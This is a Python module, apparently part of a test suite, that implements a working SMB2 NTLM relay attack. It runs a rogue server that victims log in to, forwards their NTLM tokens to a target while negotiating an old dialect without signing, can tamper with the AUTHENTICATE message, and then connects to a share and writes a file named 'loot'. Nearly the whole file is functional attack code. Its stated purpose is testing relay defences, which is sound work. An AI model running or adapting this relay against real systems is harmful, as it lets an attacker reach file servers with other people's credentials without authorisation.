"""A relay attack of the tests' own: a server that a victim logs in to, and a client that carries the
victim's tokens to a target. Unlike the tools that are about it does not care for SIGNING_REQUIRED.

It never knows the victim's password, so it has no key: everything after the login goes out unsigned.
"""

import os
import socket
import struct
import threading
from dataclasses import dataclass, field

import bodies
import smb2
import spnego
from capture import receive_frame
from harness import free_port, new_address
from in_flight import AUTHENTICATE_MESSAGE, has_ntlm, ntlm_edit
from smb2 import Header
from wire import Disconnected, Wire


@dataclass
class Loot:
    """What one relayed login got: the status of each step at the target, None when it hung up."""

    login: int = None
    tree_connect: int = None
    written: bool = False
    session_flags: int = 0
    ntlm_flags: int = 0  # of the AUTHENTICATE as it was carried on
    frames: list = field(default_factory=list)  # all that went by, for those who look for secrets
    statuses: list = field(default_factory=list)


class Relayer:
    """Listens for victims and relays each to `target` (address, port); a context manager.

    `edit` changes the NTLM AUTHENTICATE on its way (a function on a bytearray); `dialect` is what it
    speaks with the target. It reaches the target from its own address, `address`.
    """

    def __init__(self, target, share="data", edit=None, dialect=0x210):
        self.target, self.share, self.edit, self.dialect = target, share, edit, dialect
        self.address = new_address()
        self.port = free_port(self.address)
        self.loot = []
        self._listener = None

    def __enter__(self):
        self._listener = socket.create_server((self.address, self.port))
        threading.Thread(target=self._serve, daemon=True).start()
        return self

    def __exit__(self, *_):
        try:
            self._listener.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self._listener.close()

    def _serve(self):
        while True:
            try:
                victim, _ = self._listener.accept()
            except OSError:
                return
            victim.settimeout(10)
            loot = Loot()
            self.loot.append(loot)
            with victim, Wire(*self.target, source=self.address) as attacker:
                try:
                    self._relay(victim, attacker, loot)
                except (Disconnected, OSError, TypeError):
                    pass

    def _relay(self, victim, attacker, loot):
        attacker.guid = os.urandom(16)
        attacker.negotiated = self._negotiate(attacker)
        session_id = 0
        while True:
            frame = receive_frame(victim)
            header = smb2.parse_header(frame)
            if header.command == smb2.NEGOTIATE:
                _answer(victim, header, _negotiate_response())
                continue
            if header.command != smb2.SESSION_SETUP:
                return
            loot.frames.append(frame)
            token = smb2.session_setup_token(self._carry(frame, loot), False)
            answer = attacker.ask(smb2.SESSION_SETUP, bodies.session_setup(token),
                                  session_id=session_id)
            session_id = answer.session_id
            loot.frames.append(answer.raw)
            loot.login = answer.status
            loot.statuses.append(answer.status)
            if answer.status != smb2.MORE_PROCESSING:
                break
            _answer(victim, header, _setup_response(smb2.session_setup_token(answer.raw, True)),
                    answer.status, session_id=1)
        if loot.login == smb2.SUCCESS:
            loot.session_flags = smb2.session_flags(answer.raw)
            self._plunder(attacker, session_id, loot)

    def _carry(self, frame, loot):
        """What becomes of a message of the victim's on its way."""
        if not has_ntlm(AUTHENTICATE_MESSAGE)(frame):
            return frame
        changed = bytearray(frame)

        def note(message):
            if self.edit:
                self.edit(message)
            loot.ntlm_flags = struct.unpack_from("<I", message, 60)[0]

        ntlm_edit(AUTHENTICATE_MESSAGE, note)(changed)
        return bytes(changed)

    def _negotiate(self, attacker):
        """An old dialect, with signing not asked for: the best chance there is."""
        body = smb2.negotiate_request_body([self.dialect], smb2.SIGNING_ENABLED, 0, attacker.guid)
        answer = attacker.ask(smb2.NEGOTIATE, body)
        return smb2.parse_negotiate_response(answer.raw)

    def _plunder(self, attacker, session_id, loot):
        path = f"\\\\{self.target[0]}\\{self.share}"
        answer = attacker.ask(smb2.TREE_CONNECT, bodies.tree_connect(path), session_id=session_id)
        loot.tree_connect = answer.status
        if answer.status != smb2.SUCCESS:
            return
        created = attacker.ask(smb2.CREATE, bodies.create("loot"), session_id=session_id,
                               tree_id=answer.tree_id)
        loot.written = created.status == smb2.SUCCESS


def _answer(victim, request, body, status=0, session_id=0):
    header = Header(request.command, request.message_id, session_id, status=status,
                    flags=smb2.RESPONSE, credits=8)
    raw = header.pack() + body
    victim.sendall(struct.pack(">I", len(raw)) + raw)


def _negotiate_response():
    """2.1, signing possible and not asked for."""
    hint = spnego.tlv(0x60, spnego.tlv(0x06, spnego.OID_SPNEGO) + spnego.tlv(0xA0, spnego.tlv(
        0x30, spnego.tlv(0xA0, spnego.mech_type_list([spnego.OID_NTLMSSP])))))
    return struct.pack("<HHHH16sIIIIQQHHI", 65, smb2.SIGNING_ENABLED, 0x210, 0, b"attacker's guid!", 0,
                       65536, 65536, 65536, 0, 0, 128, len(hint), 0) + hint


def _setup_response(token):
    return struct.pack("<HHHH", 9, 0, 72, len(token)) + token
